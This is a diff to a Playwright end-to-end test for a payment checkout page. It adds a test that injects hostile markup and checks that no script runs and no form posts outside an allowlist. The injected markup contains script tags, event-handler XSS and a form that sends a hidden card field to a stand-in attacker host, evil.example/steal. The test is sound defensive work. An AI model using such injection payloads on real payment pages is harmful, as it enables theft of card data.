@@ -141,3 +141,35 @@ test('the hosted payment page: Pay there brings the result back, saved once, and
   await expect(page).toHaveURL(new RegExp(`/student-private-class/${code}$`));
   expect(await payments(code)).toEqual([expect.objectContaining({ Status: 'captured' })]);
 });
+
+test('hostile wait-screen markup runs no script and posts nowhere outside the allowlist', async ({ page }) => {
+  await signInAndOpen(page, `/private-class-checkout/${PRIVATE}`);
+  const origin = new URL(page.url()).origin;
+  const posts: string[] = [];
+  const foreign: string[] = [];
+  page.on('request', (request) => {
+    if (request.method() === 'POST') posts.push(request.url());
+    if (new URL(request.url()).hostname === 'evil.example') foreign.push(request.url());
+  });
+  // The router keeps navigation state in history.state.usr: hand /payment a form the way the app would.
+  const openWith = async (markup: string) => {
+    await page.evaluate((paymentForm) => {
+      history.replaceState({ usr: { paymentForm }, key: 'e2e', idx: 0 }, '', '/payment');
+    }, markup);
+    await page.reload();
+  };
+
+  await openWith(
+    `<script>window.pwned = 1</script><form action="https://evil.example/steal" method="post" onsubmit="window.pwned = 2">` +
+      `<input type="hidden" name="card" value="x"><img src="x" onerror="window.pwned = 3"></form>`,
+  );
+  await expect(page.getByText(/not on the list of trusted payment providers/)).toBeVisible();
+  expect(await page.evaluate(() => (window as { pwned?: number }).pwned)).toBeUndefined();
+
+  await openWith(
+    `<form action="${origin}/__provider/e2e-wait-screen" method="post" onsubmit="window.pwned = 4">` +
+      `<input type="hidden" name="order" value="o_1"><input type="hidden" name="submit" value="x"><script>window.pwned = 5</script></form>`,
+  );
+  await expect.poll(() => posts.filter((url) => url.startsWith(`${origin}/__provider/e2e-wait-screen`)).length).toBe(1);
+  expect(foreign).toEqual([]);
+});
